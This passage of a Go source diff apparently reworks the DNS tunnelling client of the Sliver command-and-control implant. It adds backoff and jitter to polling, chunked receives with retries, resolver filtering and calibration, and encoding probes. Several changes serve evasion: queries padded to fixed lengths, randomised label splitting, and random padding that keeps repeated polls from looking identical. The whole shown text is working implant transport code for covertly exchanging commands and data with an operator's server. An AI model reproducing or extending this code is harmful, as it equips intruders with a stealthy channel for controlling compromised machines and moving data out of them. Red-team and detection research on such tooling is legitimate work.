+		rtt = time.Millisecond
+	}
+	return 1 / (rtt.Seconds() * float64(queued+1))
+}
+
 func (s *SliverDNSClient) sendInit(resolver DNSResolver, encoder encoders.Encoder, msg *dnspb.DNSMessage, data []byte) ([]byte, error) {
-	allSubdata, err := s.SplitBuffer(msg, encoder, data)
+	parent := s.nextParent()
+	allSubdata, err := s.splitBuffer(msg, encoder, data, parent.Domain)
 	if err != nil {
 		return nil, err
 	}
 	resp := []byte{}
 	for _, subdata := range allSubdata {
-		respData, _, err := resolver.TXT(subdata)
+		respData, _, err := s.lookup(resolver, parent, s.dataType, subdata)
 		if err != nil {
 			// {{if .Config.Debug}}
 			log.Printf("[dns] init msg failure %v", err)
@@ -420,31 +1091,106 @@ func (s *SliverDNSClient) WriteEnvelope(envelope *pb.Envelope) error {
 	if err != nil {
 		return err
 	}
-	return s.parallelSend(ciphertext)
+
+	// We're active again, the server is likely to have a reply for us soon
+	s.pollMutex.Lock()
+	s.emptyPolls = 0
+	s.pollMutex.Unlock()
+
+	return s.parallelSend(envelope.ID, ciphertext)
 }
 
-// ReadEnvelope - Recv an envelope from the server
+// ReadEnvelope - Recv an envelope from the server, polls are paced by the
+// poll interval and back off while the server has nothing for us
 func (s *SliverDNSClient) ReadEnvelope() (*pb.Envelope, error) {
 	if s.closed {
 		return nil, ErrClosed
 	}
+	if !s.pollWait() {
+		return nil, ErrClosed
+	}
 	// {{if .Config.Debug}}
 	log.Printf("[dns] read envelope ...")
 	// {{end}}
 
+	envelope, err := s.poll()
+	s.pollMutex.Lock()
+	s.lastPoll = time.Now()
+	if err == nil {
+		if envelope == nil {
+			s.emptyPolls++
+		} else {
+			s.emptyPolls = 0
+		}
+	}
+	s.pollMutex.Unlock()
+	return envelope, err
+}
+
+// pollWait - Block until the next poll is due, returns false if the session
+// is closed while we're waiting
+func (s *SliverDNSClient) pollWait() bool {
+	s.pollMutex.Lock()
+	wait := time.Until(s.lastPoll.Add(s.pollDelay()))
+	pollCtrl := s.pollCtrl
+	s.pollMutex.Unlock()
+	if wait <= 0 {
+		return true
+	}
+	if pollCtrl == nil {
+		return false // Closed
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[dns] next poll in %s", wait)
+	// {{end}}
+	timer := time.NewTimer(wait)
+	defer timer.Stop()
+	select {
+	case <-pollCtrl:
+		return false
+	case <-timer.C:
+		return !s.closed
+	}
+}
+
+// pollDelay - The poll interval doubles for each consecutive empty poll until it
+// reaches the max interval, the jitter is added on top of that. A zero (or very
+// short) poll interval backs off from minPollBackoff.
+func (s *SliverDNSClient) pollDelay() time.Duration {
+	delay := s.pollInterval
+	if 0 < s.emptyPolls && delay < s.pollMaxInterval {
+		if delay < minPollBackoff {
+			delay = minPollBackoff
+		}
+		for i := 0; i < s.emptyPolls && delay < s.pollMaxInterval; i++ {
+			delay *= 2
+		}
+		if s.pollMaxInterval < delay {
+			delay = s.pollMaxInterval
+		}
+	}
+	if 0 < s.pollJitter {
+		delay += time.Duration(insecureRand.Int63n(int64(s.pollJitter)))
+	}
+	return delay
+}
+
+// poll - Poll the server for a pending envelope, returns nil if there is none
+func (s *SliverDNSClient) poll() (*pb.Envelope, error) {
 	resolver, meta := s.randomResolver()
 	pollMsg, err := s.pollMsg(meta)
 	if err != nil {
 		return nil, err
 	}
-	domain, err := s.joinSubdataToParent(pollMsg)
+	parent := s.nextParent()
+	domain, err := s.joinSubdataToParent(pollMsg, parent.Domain)
 	if err != nil {
 		return nil, err
 	}
 	// {{if .Config.Debug}}
 	log.Printf("[dns] poll msg domain: %v", domain)
 	// {{end}}
-	respData, _, err := resolver.TXT(domain)
+	respData, _, err := s.lookup(resolver, parent, s.dataType, domain)
 	if err != nil {
 		return nil, err
 	}
@@ -483,16 +1229,51 @@ func (s *SliverDNSClient) ReadEnvelope() (*pb.Envelope, error) {
 // Close - Close the dns session
 func (s *SliverDNSClient) CloseSession() error {
 	s.closed = true
+	s.pollMutex.Lock()
+	if s.pollCtrl != nil {
+		close(s.pollCtrl)
+		s.pollCtrl = nil
+	}
+	s.pollMutex.Unlock()
+	s.resolversMutex.Lock()
+	defer s.resolversMutex.Unlock()
+	if s.healthCheckCtrl != nil {
+		close(s.healthCheckCtrl)
+		s.healthCheckCtrl = nil // Closing the session again mustn't close it twice
+	}
 	for _, worker := range s.workerPool {
 		worker.Ctrl <- struct{}{}
+		close(worker.queue)
 	}
-	close(s.recvQueue)
-	close(s.sendQueue)
+	s.workerPool = []*DNSWorker{}
 	return nil
 }
 
+// OnProgress - Set a callback for the progress of large messages, it's called from
+// the goroutine doing the transfer so it must not block
+func (s *SliverDNSClient) OnProgress(progress ProgressFunc) {
+	s.progress = progress
+}
+
+// progressReporter - Returns a func to call with the number of completed queries,
+// or nil if the progress of this message should not be reported
+func (s *SliverDNSClient) progressReporter(envelopeID int64, toImplant bool, queries int, total uint32) func(int) {
+	if s.progress == nil || queries < progressMinChunks {
+		return nil
+	}
+	step := queries / progressSteps
+	if step < 1 {
+		step = 1
+	}
+	return func(done int) {
+		if done%step == 0 || done == queries {
+			s.progress(envelopeID, toImplant, uint32(uint64(total)*uint64(done)/uint64(queries)), total)
+		}
+	}
+}
+
 // parallelSend - send a full message to teh server
-func (s *SliverDNSClient) parallelSend(data []byte) error {
+func (s *SliverDNSClient) parallelSend(envelopeID int64, data []byte) error {
 	var encoder encoders.Encoder
 	if s.enableCaseSensitiveEncoder {
 		encoder = s.base58
@@ -505,19 +1286,36 @@ func (s *SliverDNSClient) parallelSend(data []byte) error {
 		Size: uint32(len(data)),
 	}
 
-	domains, err := s.SplitBuffer(msg, encoder, data)
+	parent := s.nextParent()
+	domains, err := s.splitBuffer(msg, encoder, data, parent.Domain)
 	if err != nil {
 		return err
 	}
 
+	var results chan *DNSResult
+	report := s.progressReporter(envelopeID, false, len(domains), msg.Size)
+	if report != nil {
+		results = make(chan *DNSResult, len(domains))
+	}
 	wg := &sync.WaitGroup{}
 	for _, domain := range domains {
 		wg.Add(1)
-		s.sendQueue <- &DNSWork{
-			QueryType: dns.TypeA,
+		err = s.dispatch(&DNSWork{
+			QueryType: s.valueType,
 			Domain:    domain,
+			Parent:    parent,
 			Wg:        wg,
-			Results:   nil,
+			Results:   results,
+		})
+		if err != nil {
+			wg.Done()
+			return err
+		}
+	}
+	if results != nil {
+		for done := 1; done <= len(domains); done++ {
+			<-results
+			report(done)
 		}
 	}
 	wg.Wait()
@@ -528,108 +1326,174 @@ func (s *SliverDNSClient) parallelRecv(manifest *dnspb.DNSMessage) ([]byte, erro
 	if manifest.Type != dnspb.DNSMessageType_MANIFEST {
 		return nil, ErrInvalidResponse
 	}
+	bytesPerRecv := s.bytesPerRecv()
+	data, err := s.recvChunks(manifest, bytesPerRecv)
+	for err == ErrTruncated && s.bytesPerRecv() < bytesPerRecv {
+		// Larger responses were fine when we fingerprinted the resolvers but the path
+		// changed, fall back to smaller chunks until the resolvers are recalibrated
+		bytesPerRecv = s.bytesPerRecv()
+		// {{if .Config.Debug}}
+		log.Printf("[dns] response truncated, falling back to %d byte chunks", bytesPerRecv)
+		// {{end}}
+		data, err = s.recvChunks(manifest, bytesPerRecv)
+	}
+	return data, err
+}
 
-	const bytesPerTxt = 182 // 189 with base64, -6 metadata, -1 margin
+// recvChunk - A chunk of a message we're reading, chunks are identified by their
+// start index so responses can arrive in any order
+type recvChunk struct {
+	Start    uint32
+	Stop     uint32
+	Domain   string
+	Attempts int
+	Done     bool
+}
 
-	wg := &sync.WaitGroup{}
-	results := make(chan *DNSResult, int(manifest.Size/bytesPerTxt)+1)
-	for start := uint32(0); start < manifest.Size; start += bytesPerTxt {
-		stop := start + bytesPerTxt
+// read - Copy a response into the message buffer, responses for the wrong part of
+// the message or of the wrong length are rejected
+func (c *recvChunk) read(data []byte, buf []byte) error {
+	recvMsg := &dnspb.DNSMessage{}
+	err := proto.Unmarshal(data, recvMsg)
+	if err != nil {
+		return ErrInvalidResponse
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[dns] recv msg: %v", recvMsg)
+	// {{end}}
+	if recvMsg.Start != c.Start || len(recvMsg.Data) != int(c.Stop-c.Start) {
+		return ErrInvalidIndex
+	}
+	copy(buf[c.Start:], recvMsg.Data)
+	return nil
+}
+
+// recvChunks - Read the message described by the manifest in chunks of bytesPerRecv,
+// a chunk that fails is re-requested (likely via another resolver) up to
+// chunkRetryCount times before the whole message is abandoned
+func (s *SliverDNSClient) recvChunks(manifest *dnspb.DNSMessage, bytesPerRecv uint32) ([]byte, error) {
+	parent := s.nextParent()
+	encoding := s.txtEncoding()
+	chunks := []*recvChunk{}
+	for start := uint32(0); start < manifest.Size; start += bytesPerRecv {
+		stop := start + bytesPerRecv
 		if manifest.Size < stop {
 			stop = manifest.Size
 		}
-		// {{if .Config.Debug}}
-		log.Printf("[dns] parallel read (%d): %d -> %d of %d", manifest.ID, start, stop, manifest.Size)
-		// {{end}}
 		recvMsg, _ := proto.Marshal(&dnspb.DNSMessage{
-			ID:    manifest.ID,
-			Type:  dnspb.DNSMessageType_DATA_TO_IMPLANT,
-			Start: start,
-			Stop:  stop,
+			ID:       manifest.ID,
+			Type:     dnspb.DNSMessageType_DATA_TO_IMPLANT,
+			Start:    start,
+			Stop:     stop,
+			Encoding: encoding,
 		})
 		// This message will always fit in base32
-		domain, err := s.joinSubdataToParent(string(s.base32.Encode(recvMsg)))
+		domain, err := s.joinSubdataToParent(string(s.base32.Encode(recvMsg)), parent.Domain)
 		if err != nil {
 			return nil, err
 		}
+		chunks = append(chunks, &recvChunk{Start: start, Stop: stop, Domain: domain})
+	}
 
-		wg.Add(1)
-		s.recvQueue <- &DNSWork{
-			QueryType: dns.TypeTXT,
-			Domain:    domain,
-			Wg:        wg,
+	// Each chunk has at most one query in flight
+	results := make(chan *DNSResult, len(chunks))
+	request := func(seq int) error {
+		// {{if .Config.Debug}}
+		log.Printf("[dns] parallel read (%d): %d -> %d of %d (attempt %d)",
+			manifest.ID, chunks[seq].Start, chunks[seq].Stop, manifest.Size, chunks[seq].Attempts+1)
+		// {{end}}
+		return s.dispatch(&DNSWork{
+			QueryType: s.dataType,
+			Domain:    chunks[seq].Domain,
+			Parent:    parent,
+			Encoding:  encoding,
+			Seq:       seq,
 			Results:   results,
+		})
+	}
+	var readErr error
+	outstanding := 0
+	for seq := range chunks {
+		if readErr = request(seq); readErr != nil {
+			break
 		}
+		outstanding++
 	}
 
 	// {{if .Config.Debug}}
 	log.Printf("[dns] collecting read results ...")
 	// {{end}}
-
-	recvData := make(chan []byte)
-	errors := []error{}
-	go func() {
-		recvDataBuf := make([]byte, manifest.Size)
-		for result := range results {
-			if result.Err != nil {
-				errors = append(errors, result.Err)
-				continue
-			}
-			// {{if .Config.Debug}}
-			log.Printf("[dns] read result data: %v", result.Data)
-			// {{end}}
-			recvMsg := &dnspb.DNSMessage{}
-			err := proto.Unmarshal(result.Data, recvMsg)
-			if err != nil {
-				errors = append(errors, result.Err)
-				continue
-			}
-			// {{if .Config.Debug}}
-			log.Printf("[dns] recv msg: %v", recvMsg)
-			// {{end}}
-			if manifest.Size < recvMsg.Start || int(manifest.Size) < int(recvMsg.Start)+len(recvMsg.Data) {
-				errors = append(errors, ErrInvalidIndex)
-				continue
+	recvDataBuf := make([]byte, manifest.Size)
+	report := s.progressReporter(0, true, len(chunks), manifest.Size)
+	completed := 0
+	for ; 0 < outstanding; outstanding-- {
+		result := <-results
+		chunk := chunks[result.Seq]
+		if chunk.Done {
+			continue
+		}
+		err := result.Err
+		if err == nil {
+			err = chunk.read(result.Data, recvDataBuf)
+		}
+		if err == nil {
+			chunk.Done = true
+			completed++
+			if report != nil {
+				report(completed)
 			}
-			copy(recvDataBuf[recvMsg.Start:], recvMsg.Data)
+			continue
 		}
 		// {{if .Config.Debug}}
-		log.Printf("[dns] all data collected: %v", recvDataBuf)
+		log.Printf("[dns] read (%d) %d -> %d failed: %s", manifest.ID, chunk.Start, chunk.Stop, err)
 		// {{end}}
-		recvData <- recvDataBuf
-	}()
-
-	// {{if .Config.Debug}}
-	log.Printf("[dns] waiting for workers ...")
-	// {{end}}
-	wg.Wait() // All results are in the channel
-
-	// {{if .Config.Debug}}
-	log.Printf("[dns] workers completed, close results channel ...")
-	// {{end}}
-	close(results)
-
-	if 0 < len(errors) {
+		if err == ErrTruncated {
+			// Retrying won't help, the caller falls back to smaller responses. Calibrated
+			// resolvers only shrink their own answers, others stop using EDNS0
+			if !shrinkAnswers(result.Metadata) {
+				s.disableEDNS0()
+			}
+			readErr = ErrTruncated
+			continue
+		}
+		chunk.Attempts++
+		if readErr != nil || s.chunkRetryCount < chunk.Attempts {
+			if readErr == nil {
+				readErr = err
+			}
+			continue // Wait for the queries in flight so late results aren't lost
+		}
+		if readErr = request(result.Seq); readErr == nil {
+			outstanding++
+		}
+	}
+	if readErr != nil {
 		// {{if .Config.Debug}}
-		log.Printf("[dns] read errors: %v", errors)
+		log.Printf("[dns] read (%d) failed: %v", manifest.ID, readErr)
 		// {{end}}
-		return nil, errors[0]
+		return nil, readErr
 	}
 
 	// {{if .Config.Debug}}
-	log.Printf("[dns] collecting recvData ...")
+	log.Printf("[dns] all data collected: %v", recvDataBuf)
 	// {{end}}
-	return <-recvData, nil
+	return recvDataBuf, nil
 }
 
-// SplitBuffer - There's probably a fancy way to calculate this with math and shit but it's much easier to just encode bytes
-// and check the length until we hit the limit
+// SplitBuffer - Split a message into domains under the next parent
 func (s *SliverDNSClient) SplitBuffer(msg *dnspb.DNSMessage, encoder encoders.Encoder, data []byte) ([]string, error) {
+	return s.splitBuffer(msg, encoder, data, s.nextParent().Domain)
+}
+
+// splitBuffer - There's probably a fancy way to calculate this with math and shit but it's much easier to just encode bytes
+// and check the length until we hit the limit
+func (s *SliverDNSClient) splitBuffer(msg *dnspb.DNSMessage, encoder encoders.Encoder, data []byte, parent string) ([]string, error) {
 	subdata := []string{}
 	start := 0
 	stop := start
 	lastLen := 0
 	var encoded string
+	limit := s.subdataLimit()
 	// {{if .Config.Debug}}
 	encodedSubdata := []string{}
 	// {{end}}
@@ -638,8 +1502,12 @@ func (s *SliverDNSClient) SplitBuffer(msg *dnspb.DNSMessage, encoder encoders.En
 			panic("boundary miscalculation") // We should always be able to encode more than one byte
 		}
 		msg.Start = uint32(start)
+		msg.Padding = nil
+		if 0 < s.queryPadding {
+			msg.Padding = []byte{0} // Reserve room for the padding field, see padQuery()
+		}
 		if lastLen == 0 {
-			stop += int(float64(s.subdataSpace)/2) - 1 // base32 overhead is about 160%
+			stop += limit/2 - 1 // base32 overhead is about 160%
 		} else {
 			stop += (lastLen - 4) // max start uint32 overhead
 		}
@@ -647,13 +1515,12 @@ func (s *SliverDNSClient) SplitBuffer(msg *dnspb.DNSMessage, encoder encoders.En
 			stop = len(data) - 1 // make sure the loop is executed at least once
 		}
 
-		// Sometimes adding a byte will result in +2 chars so we -1 the subdata space
 		encoded = ""
 		// {{if .Config.Debug}}
 		log.Printf("[dns] encoded: %d, subdata space: %d | stop: %d, len: %d",
-			len(encoded), (s.subdataSpace - 1), stop, len(data))
+			len(encoded), limit, stop, len(data))
 		// {{end}}
-		for len(encoded) < (s.subdataSpace-1) && stop < len(data) {
+		for len(encoded) < limit && stop < len(data) {
 			stop++
 			// {{if .Config.Debug}}
 			log.Printf("[dns] shave data [%d:%d] of %d", start, stop, len(data))
@@ -662,14 +1529,15 @@ func (s *SliverDNSClient) SplitBuffer(msg *dnspb.DNSMessage, encoder encoders.En
 			pbMsg, _ := proto.Marshal(msg)
 			encoded = string(encoder.Encode(pbMsg))
 			// {{if .Config.Debug}}
-			log.Printf("[dns] encoded length is %d (max: %d)", len(encoded), s.subdataSpace)
+			log.Printf("[dns] encoded length is %d (max: %d)", len(encoded), limit+1)
 			// {{end}}
 		}
 		lastLen = len(msg.Data) // Save the amount of data that fit for the next loop
+		encoded = s.padQuery(msg, encoder, encoded)
 		// {{if .Config.Debug}}
 		encodedSubdata = append(encodedSubdata, encoded)
 		// {{end}}
-		domain, err := s.joinSubdataToParent(encoded)
+		domain, err := s.joinSubdataToParent(encoded, parent)
 		if err != nil {
 			// {{if .Config.Debug}}
 			log.Printf("[dns] join subdata failed: %s", err)
@@ -709,7 +1577,8 @@ func (s *SliverDNSClient) getDNSSessionID() error {
 	if err != nil {
 		return err
 	}
-	otpDomain, err := s.joinSubdataToParent(otpMsg)
+	parent := s.nextParent()
+	otpDomain, err := s.joinSubdataToParent(otpMsg, parent.Domain)
 	if err != nil {
 		return err
 	}
@@ -718,11 +1587,19 @@ func (s *SliverDNSClient) getDNSSessionID() error {
 	// {{end}}
 
 	var a []byte
-	for _, resolver := range s.resolvers {
-		a, _, err = resolver.A(otpDomain)
+	for _, qType := range sessionIDTypes(s.valueType) {
+		for _, resolver := range s.resolvers {
+			a, _, err = s.lookup(resolver, parent, qType, otpDomain)
+			if err == nil {
+				break
+			}
+		}
 		if err == nil {
 			break
 		}
+		// {{if .Config.Debug}}
+		log.Printf("[dns] failed to fetch dns session id via %s records: %s", dns.TypeToString[qType], err)
+		// {{end}}
 	}
 	if err != nil {
 		return err // All resolvers failed
@@ -746,8 +1623,7 @@ func (s *SliverDNSClient) loadResolvConf() error {
 		s.resolvConf, err = dnsClientConfig()
 	} else if s.forceResolvers != "" {
 		// Convert the specified resolvers into a string that dns.ClientConfigFromReader can understand
-		// Strip out spaces and split on commas
-		resolversSlice := strings.Split(s.forceResolvers, " ")
+		resolversSlice := parseResolvers(s.forceResolvers)
 		s.resolvConf, err = dns.ClientConfigFromReader(strings.NewReader("nameserver " + strings.Join(resolversSlice, "\nnameserver ")))
 		if err != nil {
 			// {{if .Config.Debug}}
@@ -773,35 +1649,222 @@ func (s *SliverDNSClient) loadResolvConf() error {
 	return err
 }
 
+// parseResolvers - Resolvers are separated by commas or spaces, IPv6 resolvers may
+// be wrapped in brackets (e.g. [2001:db8::1]) since they're part of a url
+func parseResolvers(value string) []string {
+	resolvers := []string{}
+	fields := strings.FieldsFunc(value, func(r rune) bool {
+		return r == ' ' || r == ','
+	})
+	for _, field := range fields {
+		resolvers = append(resolvers, strings.TrimSuffix(strings.TrimPrefix(field, "["), "]"))
+	}
+	return resolvers
+}
+
+// filterResolvers - Drop resolvers that aren't in the allow list (if there is one)
+// or are in the deny list, the lists are comma separated IPs and/or CIDRs
+func filterResolvers(servers []string, allowList string, denyList string) []string {
+	allow := parseResolverNets(allowList)
+	deny := parseResolverNets(denyList)
+	filtered := []string{}
+	for _, server := range servers {
+		// Strip the IPv6 zone, e.g. fe80::1%eth0
+		ip := net.ParseIP(strings.SplitN(server, "%", 2)[0])
+		if (0 < len(allow) && !containsIP(allow, ip)) || containsIP(deny, ip) {
+			// {{if .Config.Debug}}
+			log.Printf("[dns] resolver %s is not allowed", server)
+			// {{end}}
+			continue
+		}
+		filtered = append(filtered, server)
+	}
+	return filtered
+}
+
+func parseResolverNets(value string) []*net.IPNet {
+	resolverNets := []*net.IPNet{}
+	for _, field := range strings.Split(value, ",") {
+		field = strings.TrimSpace(field)
+		if !strings.Contains(field, "/") {
+			if ip := net.ParseIP(field); ip != nil {
+				resolverNets = append(resolverNets, &net.IPNet{IP: ip, Mask: net.CIDRMask(len(ip)*8, len(ip)*8)})
+			}
+			continue
+		}
+		if _, resolverNet, err := net.ParseCIDR(field); err == nil {
+			resolverNets = append(resolverNets, resolverNet)
+		}
+	}
+	return resolverNets
+}
+
+// containsIP - Hostnames (nil ips) never match so an allow list excludes them
+func containsIP(resolverNets []*net.IPNet, ip net.IP) bool {
+	for _, resolverNet := range resolverNets {
+		if ip != nil && resolverNet.Contains(ip) {
+			return true
+		}
+	}
+	return false
+}
+
+// queryLengths - The fixed subdata lengths queries are padded to, multiples of 8
+// so base32 can hit them exactly. Full chunks are the longest length.
+func (s *SliverDNSClient) queryLengths() []int {
+	space := s.querySpace()
+	lengths := []int{}
+	for index := 1; index < s.queryPadding; index++ {
+		length := (space * index / s.queryPadding) / 8 * 8
+		if 0 < length && (len(lengths) == 0 || lengths[len(lengths)-1] < length) {
+			lengths = append(lengths, length)
+		}
+	}
+	return append(lengths, (space-1)/8*8)
+}
+
+// subdataLimit - Chunks are filled until the encoded subdata is at least this long,
+// adding a byte can add two characters so this is one less than the query space
+func (s *SliverDNSClient) subdataLimit() int {
+	if 0 < s.queryPadding {
+		lengths := s.queryLengths()
+		return lengths[len(lengths)-1]
+	}
+	return s.querySpace() - 1
+}
+
+// querySpace - The longest subdata every resolver carried intact when calibrated, or
+// the space left under the longest parent for resolvers that were not calibrated
+func (s *SliverDNSClient) querySpace() int {
+	space := s.subdataSpace
+	s.resolversMutex.RLock()
+	defer s.resolversMutex.RUnlock()
+	for _, resolver := range s.resolvers {
+		meta, ok := s.metadata[resolver.Address()]
+		if !ok {
+			continue
+		}
+		meta.mutex.Lock()
+		calibrated := meta.MaxQuerySize
+		meta.mutex.Unlock()
+		if 0 < calibrated && calibrated < space {
+			space = calibrated
+		}
+	}
+	return space
+}
+
+// padQuery - Pad the message so the encoded subdata is the shortest of the query
+// lengths the encoder can hit exactly, or as close to the longest length as it can
+// get. The padding bytes are random and the server ignores them. The message must
+// already have a byte of padding so each byte we add grows the message by one byte.
+func (s *SliverDNSClient) padQuery(msg *dnspb.DNSMessage, encoder encoders.Encoder, encoded string) string {
+	if s.queryPadding == 0 {
+		return encoded
+	}
+	padding := make([]byte, s.subdataSpace)
+	rand.Read(padding)
+	lengths := s.queryLengths()
+	for index, length := range lengths {
+		if length < len(encoded) {
+			continue
+		}
+		best, bestSize := encoded, 1
+		for size := 1; size < len(padding); size++ {
+			msg.Padding = padding[:size]
+			pbMsg, _ := proto.Marshal(msg)
+			padded := string(encoder.Encode(pbMsg))
+			if length < len(padded) {
+				break
+			}
+			best, bestSize = padded, size
+			if len(best) == length {
+				break
+			}
+		}
+		if len(best) == length || index == len(lengths)-1 {
+			msg.Padding = padding[:bestSize]
+			return best
+		}
+	}
+	return encoded
+}
+
 // Joins subdata to the parent domain, you must have already done the math to
 // ensure the subdata can fit in the domain
-func (s *SliverDNSClient) joinSubdataToParent(subdata string) (string, error) {
+func (s *SliverDNSClient) joinSubdataToParent(subdata string, parent string) (string, error) {
 	if s.subdataSpace < len(subdata) {
 		return "", errMsgTooLong // For sure won't fit after we add '.'
 	}
 	subdomains := []string{}
-	for index := 0; index < len(subdata); index += 63 {
-		stop := index + 63
-		if len(subdata) < stop {
-			stop = len(subdata)
+	if s.randomizeLabels {
+		subdomains = randomLabels(subdata, 254-len(parent))
+	} else {
+		for index := 0; index < len(subdata); index += maxLabelLength {
+			stop := index + maxLabelLength
+			if len(subdata) < stop {
+				stop = len(subdata)
+			}
+			subdomains = append(subdomains, subdata[index:stop])
 		}
-		subdomains = append(subdomains, subdata[index:stop])
 	}
-	// s.parent already has a leading '.'
-	domain := strings.Join(subdomains, ".") + s.parent
+	// Parents already have a leading '.'
+	domain := strings.Join(subdomains, ".") + parent
 	if 254 < len(domain) {
 		return "", errMsgTooLong
 	}
 	return domain, nil
 }
 
+// randomLabels - Split subdata into a random number of labels of random lengths,
+// using no more dots than fit in the space left after the subdata
+func randomLabels(subdata string, space int) []string {
+	minLabels := (len(subdata) + maxLabelLength - 1) / maxLabelLength
+	maxLabels := minLabels + maxExtraLabels
+	if dots := space - len(subdata); dots+1 < maxLabels {
+		maxLabels = dots + 1
+	}
+	if len(subdata)/minLabelLength < maxLabels {
+		maxLabels = len(subdata) / minLabelLength
+	}
+	count := minLabels
+	if minLabels < maxLabels {
+		count += insecureRand.Intn(maxLabels - minLabels + 1)
+	}
+	labels := make([]string, 0, count)
+	for remaining := count; 1 < remaining; remaining-- {
+		// Leave enough subdata for each of the remaining labels
+		shortest := len(subdata) - maxLabelLength*(remaining-1)
+		if shortest < minLabelLength {
+			shortest = minLabelLength
+		}
+		longest := len(subdata) - minLabelLength*(remaining-1)
+		if maxLabelLength < longest {
+			longest = maxLabelLength
+		}
+		length := shortest + insecureRand.Intn(longest-shortest+1)
+		labels = append(labels, subdata[:length])
+		subdata = subdata[length:]
+	}
+	if 0 < len(subdata) {
+		labels = append(labels, subdata)
+	}
+	return labels
+}
+
+// padding - Random bytes of a random length, the server ignores the data of POLL
+// and NOP messages so padding them keeps repeated messages from being identical
+func padding() []byte {
+	buf := make([]byte, minPadding+insecureRand.Intn(maxPadding-minPadding+1))
+	rand.Read(buf)
+	return buf
+}
+
 func (s *SliverDNSClient) pollMsg(meta *ResolverMetadata) (string, error) {
-	nonceBuf := make([]byte, 8)
-	rand.Read(nonceBuf)
 	pollMsg, _ := proto.Marshal(&dnspb.DNSMessage{
 		ID:   s.dnsSessionID,
 		Type: dnspb.DNSMessageType_POLL,
-		Data: nonceBuf,
+		Data: padding(),
 	})
 	if s.enableCaseSensitiveEncoder {
 		return string(s.base58.Encode(pollMsg)), nil
@@ -856,16 +1919,17 @@ func (s *SliverDNSClient) fingerprintResolvers() {
 	}
 	// {{end}}
 
-	// NOTE: In the future we may want to add a configurable error threshold for now
-	// if we encounter any errors we don't use the resolver.
+	// Resolvers with more errors than the configured threshold are dropped, and
+	// periodically re-checked by the health check loop (if enabled)
 	workingResolvers := []DNSResolver{}
 	allSupportBase58 := true
 	for _, resolver := range s.resolvers {
 		meta := s.metadata[resolver.Address()]
-		if 0 < meta.Errors {
+		if s.resolverMaxErrors < meta.Errors {
 			// {{if .Config.Debug}}
 			log.Printf("[dns] WARNING: removing resolver %s (too many errors)", resolver.Address())
 			// {{end}}
+			s.droppedResolvers = append(s.droppedResolvers, resolver)
 			continue
 		}
 		if !meta.EnableBase58 {
@@ -883,6 +1947,10 @@ func (s *SliverDNSClient) fingerprintResolvers() {
 // round trip time, and if it works at all
 func (s *SliverDNSClient) fingerprintResolver(id int, wg *sync.WaitGroup, results chan<- *ResolverMetadata, resolver DNSResolver) {
 	defer wg.Done()
+	results <- s.fingerprint(id, resolver)
+}
+
+func (s *SliverDNSClient) fingerprint(id int, resolver DNSResolver) *ResolverMetadata {
 	meta := &ResolverMetadata{
 		Address:      resolver.Address(),
 		EnableBase58: false,
@@ -890,16 +1958,420 @@ func (s *SliverDNSClient) fingerprintResolver(id int, wg *sync.WaitGroup, result
 		Errors:       0,
 	}
 	s.benchmark(id, s.base32, resolver, meta)
-	if meta.Errors == 0 && !s.forceBase32 {
+	base32Errors := meta.Errors
+	base32Queries, base32Mismatches, base32Mismatch := meta.Queries, meta.Mismatches, meta.Mismatch
+	if base32Errors <= s.resolverMaxErrors && !s.forceBase32 {
 		s.benchmark(id, s.base58, resolver, meta)
-		if meta.Errors == 0 {
+		// Any corruption means we cannot trust the resolver with a case sensitive encoding
+		if meta.Errors == base32Errors {
 			meta.EnableBase58 = true
 		} else {
 			meta.EnableBase58 = false
-			meta.Errors = 0 // Reset base32 error count
+			meta.Errors = base32Errors // Reset to the base32 error count
+			meta.Queries, meta.Mismatches, meta.Mismatch = base32Queries, base32Mismatches, base32Mismatch
+		}
+	}
+	if meta.Errors <= s.resolverMaxErrors {
+		meta.EnableEDNS0 = s.probeEDNS0(id, resolver)
+		meta.TXTEncoding = s.probeTXTEncoding(id, resolver)
+		if s.calibrate {
+			meta.MaxQuerySize = s.calibrateQuery(id, resolver)
+			meta.MaxAnswerSize = s.calibrateAnswer(id, resolver, meta.EnableEDNS0, meta.TXTEncoding)
+		}
+	}
+	if s.diagnostics {
+		s.diagnoseTXT(id, resolver, meta)
+	}
+	return meta
+}
+
+// probeTXTEncoding - Find the most efficient TXT encoding the server allows for the
+// parent and that the path through the resolver passes through intact, by asking
+// the server to pad NOP responses with every possible byte value
+func (s *SliverDNSClient) probeTXTEncoding(id int, resolver DNSResolver) dnspb.TXTEncoding {
+	if s.dataType != dns.TypeTXT {
+		return dnspb.TXTEncoding_BASE64
+	}
+	parent := s.nextParent()
+	for encoding := s.maxTXTEncoding; dnspb.TXTEncoding_BASE64 < encoding; encoding-- {
+		ok := true
+		for start := uint32(0); ok && start < 256; start += txtProbeSize {
+			ok = s.txtProbe(id, resolver, parent, encoding, start)
+		}
+		if ok {
+			// {{if .Config.Debug}}
+			log.Printf("[dns (%d)] txt encoding %s enabled for %s", id, encoding, resolver.Address())
+			// {{end}}
+			return encoding
+		}
+	}
+	return dnspb.TXTEncoding_BASE64
+}
+
+func (s *SliverDNSClient) txtProbe(id int, resolver DNSResolver, parent *parentDomain, encoding dnspb.TXTEncoding, start uint32) bool {
+	probe, _ := proto.Marshal(&dnspb.DNSMessage{
+		Type:     dnspb.DNSMessageType_NOP,
+		ID:       s.msgID(uint32(id)),
+		Start:    start,
+		Size:     txtProbeSize,
+		Encoding: encoding,
+		Data:     padding(),
+	})
+	domain, err := s.joinSubdataToParent(string(s.base32.Encode(probe)), parent.Domain)
+	if err != nil {
+		return false
+	}
+	s.limiter.wait()
+	data, rtt, err := lookup(resolver, parent.Domain, dns.TypeTXT, domain, encoding)
+	recordOutcome(parent.Metadata, rtt, err)
+	expected := make([]byte, 4, 4+txtProbeSize)
+	binary.LittleEndian.PutUint32(expected, crc32.ChecksumIEEE(probe))
+	for index := uint32(0); index < txtProbeSize; index++ {
+		expected = append(expected, byte(start+index))
+	}
+	if err != nil || !bytes.Equal(data, expected) {
+		// {{if .Config.Debug}}
+		log.Printf("[dns (%d)] txt encoding %s probe failed (%d bytes): %v", id, encoding, len(data), err)
+		// {{end}}
+		return false
+	}
+	return true
+}
+
+// probeEDNS0 - Check if the path through a resolver can carry a full size EDNS0
+// response, by asking the server to pad a NOP response to the size of a recv chunk.
+// Servers that don't support padding respond with just the checksum.
+func (s *SliverDNSClient) probeEDNS0(id int, resolver DNSResolver) bool {
+	if s.ednsSize == 0 || s.dataType != dns.TypeTXT {
+		return false
+	}
